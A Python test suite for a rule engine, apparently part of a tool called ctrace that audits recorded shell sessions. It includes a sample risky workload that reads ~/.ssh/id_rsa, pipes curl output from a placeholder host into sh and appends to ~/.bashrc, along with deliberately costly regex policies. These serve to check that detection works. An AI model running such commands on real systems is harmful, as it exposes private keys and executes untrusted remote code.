#!/usr/bin/env python3
"""End-to-end tests of the rule engine on real recorded sessions.

For every shipped rule a workload that must fire it and a near miss that
must not (cases.py), then the views: audit (text/json/sarif, exit codes,
--policy allow-lists, --min-severity), inspect, export's `rules`, the run
summary and `ctrace run --rules`, and refusal of malformed or hostile
rules files.  Needs CT_BUILD (the build folder) and CT_SRC.
"""
import concurrent.futures
import json
import os
import random
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cases import CASES, CONNECT, MORE  # noqa: E402

BUILD = os.environ.get("CT_BUILD", "")
CTRACE = os.path.join(BUILD, "ctrace")
FAILS = []

def fail(msg):
    FAILS.append(msg)
    print("FAIL:", msg, flush=True)


class Env:
    """A temp HOME, workspace, TMPDIR, store, fake tools and fake secrets."""

    def __init__(self):
        self.root = tempfile.mkdtemp(prefix="ctrace-rules-")
        r = self.root
        self.home = os.path.join(r, "home")
        self.ws = os.path.join(r, "ws")
        self.tmp = os.path.join(r, "tmp")
        self.store = os.path.join(r, "store")
        self.bin = os.path.join(r, "bin")
        for d in (self.home, self.ws, self.tmp, self.bin, r + "/fakerm"):
            os.makedirs(d)
        true, cat = shutil.which("true"), shutil.which("cat")
        for t in ("curl", "wget", "sudo", "sudoku", "su", "nc", "socat",
                  "ngrok", "ssh", "terraform", "aws", "crontab"):
            shutil.copy(true, os.path.join(self.bin, t))
        for t in ("kubectl", "docker", "git-credential-store", "npm",
                  "claude"):
            shutil.copy(cat, os.path.join(self.bin, t))
        shutil.copy(true, r + "/fakerm/rm")
        secrets = {
            ".ssh/id_rsa": "FAKE KEY", ".ssh/id_rsa.pub": "ssh-rsa FAKE",
            ".aws/credentials": "[default]\n", ".aws/config": "[default]\n",
            ".kube/config": "fake", ".docker/config.json": "{}",
            ".netrc": "machine x", ".npmrc": "//r/:_authToken=x",
            ".claude/.credentials.json": "{}",
            ".gnupg/private-keys-v1.d/k.key": "fake",
            ".bashrc": "# rc\n",
            ".gitconfig": "[user]\n\tname = t\n\temail = t@example.invalid\n"
                          "[init]\n\tdefaultBranch = main\n",
        }
        for p, text in secrets.items():
            self.write(os.path.join(self.home, p), text)
        for p, text in {".env": "K=1", ".env.example": "K=", "server.pem":
                        "fake", "config/secrets.yml": "a: 1",
                        "config/settings.yml": "a: 1", "cron.txt": ""}.items():
            self.write(os.path.join(self.ws, p), text)
        pre = os.path.join(self.tmp, "pre.sh")
        self.write(pre, "#!/bin/sh\ntrue\n")
        os.chmod(pre, 0o755)
        self.env = dict(os.environ, HOME=self.home, TMPDIR=self.tmp,
                        CTRACE_HOME=self.store,
                        PATH=self.bin + ":" + os.environ.get("PATH", ""),
                        NO_COLOR="1", CTRACE_PAGER="cat")
        for k in ("LD_PRELOAD", "GIT_DIR", "GIT_WORK_TREE"):
            self.env.pop(k, None)

    @staticmethod
    def write(path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)

    def expand(self, script):
        if script.startswith("REPO;"):
            remote = os.path.join(self.root, "remote.git")
            subprocess.run(["git", "init", "-q", "--bare", remote],
                           env=self.env, check=True)
            for cmd in (["git", "init", "-q"], ["git", "add", "."],
                        ["git", "commit", "-qm", "init"],
                        ["git", "remote", "add", "origin", remote],
                        ["git", "push", "-q", "origin", "HEAD:main"]):
                subprocess.run(cmd, cwd=self.ws, env=self.env, check=True,
                               stdout=subprocess.DEVNULL)
            script = script[5:]
        if script.startswith("CONNECT "):
            _, host, port = script.split()
            script = CONNECT.format(host, port)
        if script == "STATIC":
            src = os.path.join(self.root, "s.c")
            self.write(src, "int main(void){return 0;}\n")
            exe = os.path.join(self.root, "static-prog")
            subprocess.run(["cc", "-static", "-o", exe, src], check=True)
            script = exe
        return script.replace("fake-rm", self.root + "/fakerm/rm")

    def run(self, script, *opts):
        env = self.env
        if script == "STATIC":
            # static binaries are covered by the seccomp supervisor now;
            # CTRACE_STATIC=0 keeps the gap this case needs
            env = dict(self.env, CTRACE_STATIC="0")
        return subprocess.run([CTRACE, "run", "--quiet", *opts, "--", "bash",
                               "-c", self.expand(script)], cwd=self.ws,
                              env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, timeout=120)

    def ctrace(self, *args, stdin=None):
        return subprocess.run([CTRACE, *args], cwd=self.ws, env=self.env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, timeout=120, input=stdin)

    def audit_json(self, *args):
        p = self.ctrace("audit", "--format", "json", "--min-severity",
                        "info", *args)
        if p.returncode not in (0, 1):
            raise RuntimeError("audit failed: %s" % p.stderr)
        return json.loads(p.stdout)

    def cleanup(self):
        shutil.rmtree(self.root, ignore_errors=True)

SCHEMA = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                      "sarif-schema-2.1.0.json")


def check_sarif_schema(sarif, what):
    """Validate against the OASIS SARIF 2.1.0 schema (draft-04), and check
    that the validator rejects a broken copy, so that it is known to be
    live."""
    try:
        import jsonschema
    except ImportError:
        fail("%s: python3 jsonschema is missing (Debian: python3-jsonschema, "
             "installed by scripts/setup)" % what)
        return
    with open(SCHEMA) as f:
        schema = json.load(f)
    cls = jsonschema.Draft4Validator
    v = cls(schema, format_checker=getattr(
        cls, "FORMAT_CHECKER", None) or jsonschema.draft4_format_checker)
    errs = sorted(v.iter_errors(sarif), key=lambda e: list(e.path))
    for e in errs[:5]:
        fail("%s: SARIF invalid at %s: %s" % (what, "/".join(
            map(str, e.path)), e.message[:200]))
    broken = json.loads(json.dumps(sarif))
    broken["runs"][0]["tool"]["driver"].pop("name")
    if broken["runs"][0].get("results"):
        broken["runs"][0]["results"][0]["level"] = "severe"
    if v.is_valid(broken):
        fail("%s: the schema validator accepts a broken SARIF" % what)


def rules_hit(env):
    return {v["rule"] for v in env.audit_json()["violations"]}


def one_case(rule, which, script):
    env = Env()
    try:
        env.run(script)
        hit = rules_hit(env)
        if which == "fire" and rule not in hit:
            return "%s: firing workload %r did not fire it (hits: %s)" % (
                rule, script[:80], sorted(hit))
        if which == "near" and rule in hit:
            return "%s: near miss %r fired it" % (rule, script[:80])
        return None
    except Exception as e:  # noqa: BLE001
        return "%s (%s): %s" % (rule, which, e)
    finally:
        env.cleanup()


def test_cases():
    out = subprocess.run([CTRACE, "rules", "list", "--json"],
                         stdout=subprocess.PIPE, text=True,
                         env=dict(os.environ, HOME=tempfile.gettempdir()))
    shipped = {r["id"] for r in json.loads(out.stdout)}
    if len(shipped) < 30:
        fail("only %d shipped rules" % len(shipped))
    for r in sorted(shipped - set(CASES)):
        fail("rule %s has no test case" % r)
    for r in sorted(set(CASES) - shipped):
        fail("test case for unknown rule %s" % r)
    jobs = [(r, w, s) for r, (f, n) in sorted(CASES.items())
            for w, s in (("fire", f), ("near", n))]
    for r, w, s in MORE:
        if r not in shipped:
            fail("extra case for unknown rule %s" % r)
        jobs.append((r, w, s))
    with concurrent.futures.ThreadPoolExecutor(8) as ex:
        for res in ex.map(lambda j: one_case(*j), jobs):
            if res:
                fail(res)
    print("cases: %d rules x (fire, near miss) and %d more checked" % (
        len(CASES), len(MORE)))


ORDINARY = """
printf '#include <stdio.h>\\nint main(void){puts("hi");return 0;}\\n' > m.c
cc -c m.c -o m.o && cc m.o -o m && ./m >/dev/null
git init -q . && git add m.c && git commit -qm init
sed -i s/hi/ho/ m.c
python3 -c 'import json; json.dump({"a": 1}, open("out.json", "w"))'
mkdir -p build/obj && touch build/obj/a.o build/obj/b.o && rm -rf build
"""

RISKY = """
cat ~/.ssh/id_rsa >/dev/null
curl -s http://example.invalid/x | sh
git init -q . && git commit -q --allow-empty -m i && git reset -q --hard
echo 'export X=1' >> ~/.bashrc
: > /etc/ctrace-test-nonexistent/x 2>/dev/null
true
"""


def test_views():
    env = Env()
    try:
        p = env.run(ORDINARY)
        if p.returncode != 0:
            fail("ordinary session failed: %s" % p.stderr)
        a = env.ctrace("audit")
        if a.returncode != 0:
            fail("audit of ordinary work exits %d:\n%s" % (a.returncode,
                                                            a.stdout))
        j = env.audit_json("--min-severity", "medium")
        if j["violations"]:
            fail("ordinary work raised %s" % j["violations"])

        p = env.ctrace("run", "--", "bash", "-c", RISKY)
        if "rule hits: " not in p.stderr or "rule hits: 0" in p.stderr:
            fail("run summary lacks rule hits: %s" % p.stderr)
        if "ssh-private-key-read" not in p.stderr:
            fail("run summary does not list the hits: %s" % p.stderr)
        a = env.ctrace("audit")
        if a.returncode != 1:
            fail("audit of risky work exits %d" % a.returncode)
        j = env.audit_json()
        got = {v["rule"]: v for v in j["violations"]}
        for r in ("ssh-private-key-read", "curl-pipe-shell",
                  "git-reset-hard", "shell-rc-write", "write-under-etc"):
            if r not in got:
                fail("risky session: %s not raised (%s)" % (r, sorted(got)))
        if set(j) != {"session", "violations", "counts"}:
            fail("audit json keys %s" % sorted(j))
        for v in j["violations"]:
            if set(v) != {"rule", "severity", "seq", "proc", "summary"} or \
                    not v["seq"] or not all(isinstance(s, int)
                                            for s in v["seq"]):
                fail("violation shape %s" % v)
        if sum(j["counts"].values()) != len(j["violations"]):
            fail("counts %s vs %d violations" % (j["counts"],
                                                 len(j["violations"])))
        # every seq names a real event of that kind
        ev = env.ctrace("export", "--format", "ndjson")
        events = {e["seq"]: e for e in map(json.loads,
                                           ev.stdout.splitlines())}
        key = got.get("ssh-private-key-read")
        if key:
            for s in key["seq"]:
                e = events.get(s, {})
                if not e.get("path", "").endswith("/.ssh/id_rsa") or \
                        "ssh-private-key-read" not in e.get("rules", []):
                    fail("seq %d is not the key read: %s" % (s, e))
        # --min-severity
        a = env.ctrace("audit", "--min-severity", "critical")
        if a.returncode != 0:
            fail("--min-severity critical should pass (%d)" % a.returncode)
        # SARIF 2.1.0, one result per violation at or above the minimum
        s = env.ctrace("audit", "--format", "sarif", "--min-severity", "info")
        sarif = json.loads(s.stdout)
        if sarif.get("version") != "2.1.0" or len(sarif["runs"]) != 1:
            fail("sarif header %s" % {k: sarif.get(k) for k in
                                      ("version", "$schema")})
        run = sarif["runs"][0]
        ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
        if len(run["results"]) != len(j["violations"]):
            fail("sarif has %d results for %d violations" % (
                len(run["results"]), len(j["violations"])))
        for r in run["results"]:
            if ids[r["ruleIndex"]] != r["ruleId"] or \
                    r["level"] not in ("error", "warning", "note") or \
                    not r["message"]["text"] or not r["locations"]:
                fail("sarif result %s" % r)
        check_sarif_schema(sarif, "risky session")
        # a policy that silences one rule and narrows another
        pol = os.path.join(env.root, "policy.yaml")
        env.write(pol, "allow:\n  - rule: curl-pipe-shell\n"
                       "    reason: our installer\n"
                       "  - rule: ssh-private-key-read\n"
                       "    image: [cat]\n")
        got2 = {v["rule"] for v in env.audit_json("--policy", pol)[
            "violations"]}
        if "curl-pipe-shell" in got2 or "ssh-private-key-read" in got2:
            fail("allow-list did not silence: %s" % sorted(got2))
        if "git-reset-hard" not in got2:
            fail("allow-list silenced too much: %s" % sorted(got2))
        # a malformed policy: input error, named as FILE:LINE: problem
        bad = os.path.join(env.root, "bad-policy.yaml")
        env.write(bad, "allow:\n  - rule: curl-pipe-shell\n"
                       "    reason: x\n    frob: 1\n")
        a = env.ctrace("audit", "--policy", bad)
        if a.returncode != 2 or "%s:4: " % bad not in a.stderr or \
                "frob" not in a.stderr:
            fail("audit --policy malformed: rc %d, %r" % (a.returncode,
                                                          a.stderr))
        env.write(bad, "rules: [\n")
        a = env.ctrace("audit", "--policy", bad)
        if a.returncode != 2 or not re.search(re.escape(bad) + r":\d+: \S",
                                               a.stderr):
            fail("audit --policy unparsable: rc %d, %r" % (a.returncode,
                                                           a.stderr))
        # inspect
        i = env.ctrace("inspect", "--anomalies-only")
        lines = i.stdout.splitlines()
        if not lines or not all("[" in ln for ln in lines):
            fail("inspect --anomalies-only: %s" % i.stdout[:500])
        ij = json.loads(env.ctrace("inspect", "--json").stdout)
        if len(ij) != len(events) or not any(e["rules"] for e in ij):
            fail("inspect --json: %d events, %d exported" % (len(ij),
                                                            len(events)))
        # the session record counts the hits
        ss = json.loads(env.ctrace("sessions", "--json").stdout)
        if not any(x.get("rule_hits") for x in ss):
            fail("sessions --json shows no rule_hits: %s" % ss)
        # ctrace run --rules adds a project's rules
        extra = os.path.join(env.root, "extra.yaml")
        env.write(extra, "rules:\n  - id: touches-marker\n    severity: low\n"
                         "    description: marker file\n    kind: open\n"
                         "    path: '*/marker'\n")
        p = env.ctrace("run", "--rules", extra, "--", "touch", "marker")
        if "touches-marker" not in p.stderr:
            fail("run --rules: %s" % p.stderr)
        p = env.ctrace("run", "--rules", pol + ".missing", "--", "true")
        if p.returncode != 2:
            fail("run --rules MISSING exits %d" % p.returncode)
        # usage errors
        for args in (["audit", "--format", "xml"],
                     ["audit", "--min-severity", "huge"],
                     ["audit", "--policy", pol + ".missing"],
                     ["audit", "ffffffffffff"], ["rules", "frob"],
                     ["inspect", "--bogus"]):
            r = env.ctrace(*args)
            if r.returncode != 2:
                fail("%s exits %d" % (args, r.returncode))
    finally:
        env.cleanup()


BAD = {
    "rules:\n  - id: x\n    severity: huge\n    description: d\n    argv0: a\n":
        (3, "unknown severity"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n    frob: 1\n":
        (5, "unknown key 'frob'"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n":
        (2, "no condition"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    argv_regex: '(a'\n": (5, "bad regular expression"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    path: '${NOPE}/x'\n": (5, "unknown variable"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    cidr: 10.0.0.0/33\n": (5, "prefix"),
    "rules:\n  - &a {id: x}\n  - *a\n": (3, "aliases"),
    "rules: [\n": (2, ""),
    "rules:\n - id: x\n   severity: low\n   description: d\n   argv0: a\n"
    " - id: x\n   severity: low\n   description: d\n   argv0: b\n":
        (6, "already used"),
}


def test_bad_files():
    d = tempfile.mkdtemp(prefix="ctrace-rules-bad-")
    try:
        for i, (text, (line, what)) in enumerate(BAD.items()):
            p = os.path.join(d, "bad%d.yaml" % i)
            with open(p, "w") as f:
                f.write(text)
            r = subprocess.run([CTRACE, "rules", "check", p],
                               stderr=subprocess.PIPE, text=True)
            want = "%s:%d: " % (p, line)
            if r.returncode != 1 or not r.stderr.startswith(want) or \
                    what not in r.stderr:
                fail("bad file %r: rc %d, %r (want %r ... %r)" % (
                    text, r.returncode, r.stderr, want, what))
        # hostile: deep nesting, many nodes, a huge file, long lines
        hostile = {
            "deep": "rules: " + "[" * 5000 + "]" * 5000 + "\n",
            "wide": "rules: [" + ",".join(["x"] * 300000) + "]\n",
            "huge": "# " + "x" * (5 << 20) + "\n",
            "regex": "rules:\n  - id: x\n    severity: low\n    "
                     "description: d\n    argv_regex: '(a*)*\\1'\n",
        }
        for name, text in hostile.items():
            p = os.path.join(d, name + ".yaml")
            with open(p, "w") as f:
                f.write(text)
            t0 = time.time()
            r = subprocess.run([CTRACE, "rules", "check", p],
                               stderr=subprocess.PIPE, text=True, timeout=30)
            if r.returncode != 1 or not r.stderr.startswith(p + ":"):
                fail("hostile %s: rc %d %r" % (name, r.returncode,
                                                r.stderr[:200]))
            if time.time() - t0 > 10:
                fail("hostile %s took %.1fs" % (name, time.time() - t0))
        r = subprocess.run([CTRACE, "rules", "check",
                            os.path.join(os.environ["CT_SRC"], "rules",
                                         "default.yaml")],
                           stdout=subprocess.PIPE, text=True)
        if r.returncode != 0:
            fail("default.yaml does not check")
    finally:
        shutil.rmtree(d, ignore_errors=True)


# Globs and regular expressions chosen to be costly for backtracking
# matchers, against a path of ~3,000 bytes and argv of ~60,000; they need
# a '%' the workload never writes, so they fail only after all the work.
# (Searched unanchored, each regex-alt-N took glibc seconds per event:
# rules/load.c searches them as "^.*(E)".)
HOSTILE_POLICY = """rules:
  - id: glob-stars
    severity: low
    description: many stars
    kind: open
    path: ["*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*%*b",
           "*?a*?a*?a*?a*?a*?a*?a*?a*[ab]*[ab]*[ab]*[ab]*%*b"]
  - id: regex-alt
    severity: low
    description: nested alternation
    argv_regex: "(a|aa)+%@"
  - id: regex-nested
    severity: low
    description: nested repetition
    argv_regex: "((a+)+)+%@|(.*a){20}%@|((a{1,10}){1,10}){1,10}%@"
  - id: shell-alt
    severity: low
    description: nested alternation in -c text
    shell_c: "(a|aa)+%@"
  - id: seq-stars
    severity: low
    description: a sequence of costly steps
    sequence:
      - {kind: open, path: "*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*%*b"}
      - {argv_regex: "(a|aa)*(a|aa)*%@"}
    within: 1h
    per: session
""" + "".join("""  - id: regex-alt-%d
    severity: low
    description: nested alternation %d
    argv_regex: "(a|aa)+%%@%d"
""" % (i, i, i) for i in range(30))

HOSTILE_SCRIPT = r"""
d=.; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do
  d=$d/$(printf 'a%.0s' $(seq 230)); done
mkdir -p "$d" && : > "$d/aaab" && cat "$d/aaab"
/bin/true "$(printf 'a%.0s' $(seq 60000))b"
bash -c ": $(printf 'a%.0s' $(seq 30000))b"
"""


def test_hostile_eval():
    env = Env()
    try:
        pol = os.path.join(env.root, "hostile.yaml")
        env.write(pol, HOSTILE_POLICY)
        r = env.ctrace("rules", "check", pol)
        if r.returncode != 0:
            fail("hostile policy does not load: %s" % r.stderr)
            return
        p = env.run(HOSTILE_SCRIPT)
        if p.returncode != 0:
            fail("hostile workload failed: %s" % p.stderr[-500:])
        t0 = time.time()
        try:
            a = subprocess.run([CTRACE, "audit", "--policy", pol,
                                "--format", "json", "--min-severity",
                                "info"], cwd=env.ws, env=env.env,
                               stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True,
                               timeout=60)
        except subprocess.TimeoutExpired:
            fail("audit with a hostile policy did not finish in 60 s")
            return
        took = time.time() - t0
        print("hostile policy: audit took %.1fs" % took)
        if a.returncode not in (0, 1):
            fail("hostile audit exits %d: %s" % (a.returncode, a.stderr))
            return
        # the patterns can match nothing here (no 'c'): nothing fires
        hit = {v["rule"] for v in json.loads(a.stdout)["violations"]}
        if any(h.startswith(("glob-", "regex-", "shell-", "seq-"))
               for h in hit):
            fail("hostile rules fired: %s" % sorted(hit))
    finally:
        env.cleanup()


def mutate(text, rnd):
    """One random edit of a YAML text: bytes flipped, lines dropped,
    duplicated or swapped, indentation shifted, YAML syntax inserted."""
    lines = text.split("\n")
    op = rnd.randrange(7)
    i = rnd.randrange(len(lines))
    if op == 0:
        del lines[i]
    elif op == 1:
        lines.insert(i, lines[rnd.randrange(len(lines))])
    elif op == 2:
        j = rnd.randrange(len(lines))
        lines[i], lines[j] = lines[j], lines[i]
    elif op == 3:
        lines[i] = " " * rnd.choice((1, 2, 4)) + lines[i]
    elif op == 4:
        lines[i] = lines[i].lstrip()
    else:
        b = bytearray("\n".join(lines).encode())
        for _ in range(rnd.randint(1, 8)):
            k = rnd.randrange(len(b))
            if op == 5:
                b[k] = rnd.randrange(256)
            else:
                b[k:k] = rnd.choice((b"[", b"]", b"{", b"}", b":", b"- ",
                                     b"&a ", b"*a", b"!!str ", b"'", b'"',
                                     b"\\", b"\t", b"%YAML 1.1\n", b"\x00",
                                     b"${", b"(", b"*"))
        return bytes(b)
    return "\n".join(lines).encode()


def test_fuzz_loader():
    """Random mutations of default.yaml: `rules check` answers 0 (valid),
    1 (FILE:LINE: problem) or 2, never crashes or hangs."""
    with open(os.path.join(os.environ["CT_SRC"], "rules",
                           "default.yaml"), "rb") as f:
        base = f.read().decode()
    seed = int(os.environ.get("CT_FUZZ_SEED", "0") or 0) or \
        random.randrange(1 << 30)
    rnd = random.Random(seed)
    d = tempfile.mkdtemp(prefix="ctrace-rules-fuzz-")
    deadline = time.time() + 15
    counts = {}

    def one(i, data):
        p = os.path.join(d, "m%d.yaml" % i)
        with open(p, "wb") as f:
            f.write(data)
        try:
            r = subprocess.run([CTRACE, "rules", "check", p],
                               stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=20)
        except subprocess.TimeoutExpired:
            return "mutant %s hung (seed %d)" % (p, seed), None
        if r.returncode not in (0, 1, 2):
            return "mutant %s: rc %d (seed %d) %r" % (
                p, r.returncode, seed, r.stderr[-300:]), None
        if r.returncode == 1 and \
                not r.stderr.startswith(p.encode() + b":"):
            return "mutant %s: error not FILE:...: %r (seed %d)" % (
                p, r.stderr[:200], seed), None
        os.unlink(p)
        return None, r.returncode

    try:
        n = 0
        with concurrent.futures.ThreadPoolExecutor(4) as ex:
            while time.time() < deadline and n < 2000:
                batch = []
                for _ in range(40):
                    text = base
                    for _ in range(rnd.randint(1, 3)):
                        text = mutate(text, rnd).decode("latin-1")
                    batch.append((n, text.encode("latin-1")))
                    n += 1
                for err, rc in ex.map(lambda a: one(*a), batch):
                    if err:
                        fail(err)
                    else:
                        counts[rc] = counts.get(rc, 0) + 1
        print("fuzz: %d mutants of default.yaml (seed %d): %s" % (
            n, seed, counts))
        if not counts.get(1):
            fail("fuzz: no mutant was refused: the mutations do nothing")
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_seq_cap():
    """A violation lists at most 1000 events and counts the rest."""
    env = Env()
    try:
        many = os.path.join(env.ws, "many")
        os.makedirs(many)
        for i in range(1500):
            open(os.path.join(many, "f%d" % i), "w").close()
        pol = os.path.join(env.root, "unlink.yaml")
        env.write(pol, "rules:\n  - id: unlink-many\n    severity: low\n"
                       "    description: unlink below many/\n"
                       "    kind: unlink\n    path: '*/many/*'\n")
        env.run("rm -rf many")
        j = env.audit_json("--policy", pol)
        v = [x for x in j["violations"] if x["rule"] == "unlink-many"]
        if len(v) != 1:
            fail("seq cap: %d unlink-many violations" % len(v))
            return
        seq = v[0]["seq"]
        if len(seq) != 1000 or seq != sorted(set(seq)):
            fail("seq cap: %d seqs listed (want 1000, distinct, sorted)" %
                 len(seq))
        t = env.ctrace("audit", "--policy", pol, "--min-severity", "low")
        if "(+500 more)" not in t.stdout:
            fail("seq cap: text does not count the rest: %s" %
                 t.stdout[-300:])
    finally:
        env.cleanup()


def doc_blocks(path):
    """The fenced code blocks of a markdown file: [(lang, text)]."""
    with open(path) as f:
        return re.findall(r"^```(\w*)\n(.*?)^```", f.read(), re.M | re.S)


def step_runs(workflow):
    """name -> `run:` text of each step of a GitHub Actions job (the
    subset of YAML the example uses: `- name:`, `run: |` or `run: X`)."""
    steps, name, lines = {}, None, workflow.split("\n")
    i = 0
    while i < len(lines):
        m = re.match(r"\s*- name: (.*)", lines[i])
        if m:
            name = m.group(1).strip()
        m = re.match(r"(\s*)run: (.*)", lines[i])
        if m and name:
            if m.group(2).strip() == "|":
                ind, body = None, []
                i += 1
                while i < len(lines):
                    ln = lines[i]
                    cur = len(ln) - len(ln.lstrip())
                    if ln.strip() and ind is None:
                        ind = cur
                    if ln.strip() and cur < (ind or 0):
                        break
                    body.append(ln[ind or 0:])
                    i += 1
                steps[name] = "\n".join(body)
                continue
            steps[name] = m.group(2)
        i += 1
    return steps


def test_ci_doc():
    """docs/ci.md as written: its policy example loads, its workflow
    checks ctrace out where it builds it, and the steps that trace
    `make test` and audit it work on a tiny project (ctrace installed
    with cmake --install into a temp prefix, as the workflow does)."""
    doc = os.path.join(os.environ["CT_SRC"], "docs", "ci.md")
    blocks = doc_blocks(doc)
    policy = [t for lang, t in blocks if ".ctrace/policy.yaml" in t and
              lang == "yaml" and "allow:" in t]
    flow = [t for lang, t in blocks if lang == "yaml" and "jobs:" in t]
    if len(policy) != 1 or len(flow) != 1:
        fail("docs/ci.md: want one policy and one workflow block")
        return
    steps = step_runs(flow[0])
    install = steps.get("Install ctrace", "")
    # the ctrace checkout the install step builds must be created by a step
    m = re.search(r"(\S+)/scripts/setup", install)
    if not m:
        fail("docs/ci.md: the install step does not run scripts/setup")
    elif not re.search(r"path: *%s\s" % re.escape(m.group(1)), flow[0]):
        fail("docs/ci.md: no step checks ctrace out into %s/" % m.group(1))
    for k in ("Test under ctrace", "Audit"):
        if k not in steps:
            fail("docs/ci.md: no step %r" % k)
            return
    env = Env()
    try:
        prefix = os.path.join(env.root, "prefix")
        r = subprocess.run(["cmake", "--install", BUILD, "--prefix", prefix],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True)
        if r.returncode != 0:
            fail("cmake --install: %s" % r.stderr)
            return
        proj = os.path.join(env.root, "proj")
        env.write(os.path.join(proj, ".ctrace", "policy.yaml"), policy[0])
        env.write(os.path.join(proj, "Makefile"),
                  "test:\n\tcc -o t t.c && ./t\n")
        env.write(os.path.join(proj, "t.c"), "int main(void){return 0;}\n")
        run_env = dict(env.env, PATH=os.path.join(prefix, "bin") + ":" +
                       env.env["PATH"], GITHUB_RUN_ID="4242")

        def step(name, text):
            text = text.replace("${{ github.run_id }}", "4242")
            return subprocess.run(["bash", "-e", "-c", text], cwd=proj,
                                  env=run_env, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True,
                                  timeout=120)

        for lang, t in blocks:
            if lang == "sh" and "ctrace run" in t:
                p = step("quick start", t)
                if p.returncode != 0:
                    fail("docs/ci.md first block exits %d: %s" % (
                        p.returncode, p.stderr[-400:]))
        p = step("Test under ctrace", steps["Test under ctrace"])
        if p.returncode != 0:
            fail("docs/ci.md test step exits %d: %s" % (p.returncode,
                                                        p.stderr[-400:]))
        ss = json.loads(env.ctrace("sessions", "--json").stdout)
        if not ss or ss[0].get("name") != "ci-4242":
            fail("docs/ci.md: latest session is not ci-4242: %s" %
                 [x.get("name") for x in ss])
        p = step("Audit", steps["Audit"])
        if p.returncode != 0:
            fail("docs/ci.md audit step exits %d on a clean project: %s %s"
                 % (p.returncode, p.stdout[-400:], p.stderr[-400:]))
        with open(os.path.join(proj, "ctrace.sarif")) as f:
            sarif = json.load(f)
        check_sarif_schema(sarif, "docs/ci.md clean")
        # the same gate fails a risky job (exit 1), still writing SARIF
        env.write(os.path.join(proj, "Makefile"),
                  "test:\n\tcat ~/.ssh/id_rsa >/dev/null\n")
        p = step("Test under ctrace", steps["Test under ctrace"])
        p = step("Audit", steps["Audit"])
        if p.returncode != 1:
            fail("docs/ci.md audit step exits %d on a risky project" %
                 p.returncode)
        with open(os.path.join(proj, "ctrace.sarif")) as f:
            sarif = json.load(f)
        check_sarif_schema(sarif, "docs/ci.md risky")
        if not any(x["ruleId"] == "ssh-private-key-read"
                   for x in sarif["runs"][0]["results"]):
            fail("docs/ci.md SARIF lacks the key read")
    finally:
        env.cleanup()


def main():
    if not os.access(CTRACE, os.X_OK):
        print("no ctrace in CT_BUILD=%r" % BUILD)
        return 2
    only = sys.argv[1:]
    for t in (test_bad_files, test_views, test_cases, test_hostile_eval,
              test_fuzz_loader, test_seq_cap, test_ci_doc):
        if not only or t.__name__ in only:
            t()
    if FAILS:
        print("%d failure(s)" % len(FAILS))
        return 1
    print("ok")
    return 0


if __name__ == "__main__":
    sys.exit(main())
